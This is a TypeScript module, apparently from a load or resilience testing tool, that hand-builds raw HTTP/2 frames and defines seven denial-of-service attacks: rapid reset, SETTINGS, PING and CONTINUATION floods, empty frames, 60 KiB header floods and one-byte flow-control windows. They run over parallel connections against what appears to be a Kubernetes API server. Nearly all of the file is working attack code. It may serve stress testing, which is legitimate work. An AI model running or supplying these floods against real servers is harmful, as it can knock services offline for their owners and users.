/** HTTP/2 attacks with frames that no client library sends. */
import type { TLSSocket } from 'node:tls'

import { credentials, type Target } from '../program.ts'
import { openSocket } from '../raw-http.ts'
import { type Attack, type AttackContext, inLanes } from './attack.ts'

const TYPES = {
  data: 0,
  headers: 1,
  priority: 2,
  reset: 3,
  settings: 4,
  ping: 6,
  windowUpdate: 8,
  continuation: 9,
} as const
const END_STREAM = 1
const END_HEADERS = 4
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')

function frame(type: keyof typeof TYPES, flags: number, stream: number, payload: Buffer = NOTHING): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = TYPES[type]
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

const NOTHING = Buffer.alloc(0)

/** A literal header whose name is in HPACK's static table. */
function literal(index: number, value: string): Buffer {
  const name = index < 15 ? [index] : [15, index - 15]
  return Buffer.concat([Buffer.from(name), lengthOf(value.length), Buffer.from(value)])
}

function lengthOf(length: number): Buffer {
  if (length < 127) return Buffer.from([length])
  const out = [127]
  for (let rest = length - 127; ; rest >>= 7) {
    if (rest < 128) return Buffer.from([...out, rest])
    out.push((rest & 127) | 128)
  }
}

/** A header with a name of its own. */
function named(name: string, value: string): Buffer {
  return Buffer.concat([
    Buffer.from([0]),
    lengthOf(name.length),
    Buffer.from(name),
    lengthOf(value.length),
    Buffer.from(value),
  ])
}

/** `:method GET`, `:scheme https`, path, authority and who asks. */
function getBlock(path: string): Buffer {
  const token = credentials('user')['authorization'] ?? ''
  return Buffer.concat([Buffer.from([0x82, 0x87]), literal(4, path), literal(1, 'localhost'), literal(23, token)])
}

async function openHttp2(target: Target, settings: Buffer = NOTHING): Promise<TLSSocket> {
  const socket = await openSocket(target, 'h2')
  socket.write(Buffer.concat([PREFACE, frame('settings', 0, 0, settings)]))
  return socket
}

/** Writes what `next` gives as fast as it is taken, until the server has had enough. */
async function flood(context: AttackContext, socket: TLSSocket, next: () => Buffer | undefined): Promise<void> {
  const { signal, tally } = context
  while (!signal.aborted && !socket.destroyed) {
    const piece = next()
    if (piece === undefined) break
    tally.sent++
    if (!socket.write(piece)) await drained(socket, signal)
    else if (tally.sent % 64 === 0) await new Promise(setImmediate)
  }
  const isCut = socket.destroyed
  socket.destroy()
  if (isCut && !signal.aborted) throw new Error('The server ended the connection')
}

function drained(socket: TLSSocket, signal: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    const done = (): void => {
      socket.off('drain', done)
      socket.off('close', done)
      signal.removeEventListener('abort', done)
      resolve()
    }
    socket.on('drain', done)
    socket.on('close', done)
    signal.addEventListener('abort', done)
  })
}

/** Streams of a client have odd numbers, up to 2^31. */
function streamNumbers(): () => number {
  let last = -1
  return () => (last += 2)
}

const many = (count: number, make: () => Buffer): Buffer => Buffer.concat(Array.from({ length: count }, make))

export const HTTP2_ATTACKS: Readonly<Record<string, Attack>> = {
  'rapid-reset': {
    what: 'HTTP/2 requests reset as soon as they are sent, on 8 connections',
    isCut: true,
    run: (context) =>
      inLanes(context, 8 * context.scale, async () => {
        const socket = await openHttp2(context.target)
        socket.resume()
        const number = streamNumbers()
        const block = getBlock('/api/v1/pods')
        await flood(context, socket, () =>
          many(20, () => {
            const stream = number()
            const request = frame('headers', END_STREAM | END_HEADERS, stream, block)
            return Buffer.concat([request, frame('reset', 0, stream, Buffer.from([0, 0, 0, 8]))])
          }),
        )
      }),
  },
  'settings-flood': {
    what: 'HTTP/2 SETTINGS without end, their acknowledgements unread',
    isCut: true,
    run: (context) =>
      inLanes(context, 4 * context.scale, async () => {
        const socket = await openHttp2(context.target)
        socket.pause()
        const piece = many(50, () => frame('settings', 0, 0, Buffer.from([0, 4, 0, 0, 255, 255])))
        await flood(context, socket, () => piece)
      }),
  },
  'ping-flood': {
    what: 'HTTP/2 pings without end, their answers unread',
    isCut: true,
    run: (context) =>
      inLanes(context, 4 * context.scale, async () => {
        const socket = await openHttp2(context.target)
        socket.pause()
        const piece = many(50, () => frame('ping', 0, 0, Buffer.alloc(8)))
        await flood(context, socket, () => piece)
      }),
  },
  'continuation-flood': {
    what: 'HTTP/2 headers that never end',
    isCut: true,
    run: (context) =>
      inLanes(context, 4 * context.scale, async () => {
        const socket = await openHttp2(context.target)
        socket.resume()
        socket.write(frame('headers', END_STREAM, 1, getBlock('/api')))
        const piece = frame('continuation', 0, 1, named('x-flood', 'y'.repeat(8000)))
        await flood(context, socket, () => piece)
      }),
  },
  'empty-frames': {
    what: 'HTTP/2 DATA, PRIORITY and WINDOW_UPDATE frames that say nothing',
    run: (context) =>
      inLanes(context, 4 * context.scale, async () => {
        const socket = await openHttp2(context.target)
        socket.resume()
        const head = Buffer.concat([
          Buffer.from([0x83, 0x87]),
          getBlock('/api/v1/namespaces/default/configmaps').subarray(2),
        ])
        socket.write(frame('headers', END_HEADERS, 1, head))
        const piece = many(50, () =>
          Buffer.concat([
            frame('data', 0, 1),
            frame('priority', 0, 1, Buffer.from([0, 0, 0, 0, 1])),
            frame('windowUpdate', 0, 0, Buffer.from([0, 0, 0, 1])),
          ]),
        )
        await flood(context, socket, () => piece)
      }),
  },
  'header-flood': {
    what: 'HTTP/2 requests with 60 KiB of headers each, 100 streams on 4 connections',
    run: (context) =>
      inLanes(context, 4 * context.scale, async () => {
        const socket = await openHttp2(context.target)
        socket.resume()
        const number = streamNumbers()
        const extra = many(100, () => named(`x-${'n'.repeat(20)}`, 'v'.repeat(550)))
        const block = Buffer.concat([getBlock('/api'), extra])
        await flood(context, socket, () => {
          const stream = number()
          if (stream > 20_000) return undefined
          const pieces: Buffer[] = []
          for (let at = 0; at < block.length; at += 16_000) {
            const isLast = at + 16_000 >= block.length
            const flags = (at === 0 ? END_STREAM : 0) | (isLast ? END_HEADERS : 0)
            pieces.push(frame(at === 0 ? 'headers' : 'continuation', flags, stream, block.subarray(at, at + 16_000)))
          }
          return Buffer.concat(pieces)
        })
      }),
  },
  'tiny-windows': {
    what: 'HTTP/2 lists asked for 100 at a time and read a byte at a time',
    run: (context) =>
      inLanes(context, 4 * context.scale, async () => {
        // The window of every stream is one byte.
        const socket = await openHttp2(context.target, Buffer.from([0, 4, 0, 0, 0, 1]))
        socket.resume()
        const number = streamNumbers()
        const block = getBlock('/api/v1/namespaces/crowd/configmaps?limit=500')
        socket.write(many(100, () => frame('headers', END_STREAM | END_HEADERS, number(), block)))
        await flood(context, socket, () =>
          frame('windowUpdate', 0, 1 + 2 * (context.tally.sent % 100), Buffer.from([0, 0, 0, 1])),
        )
      }),
  },
}
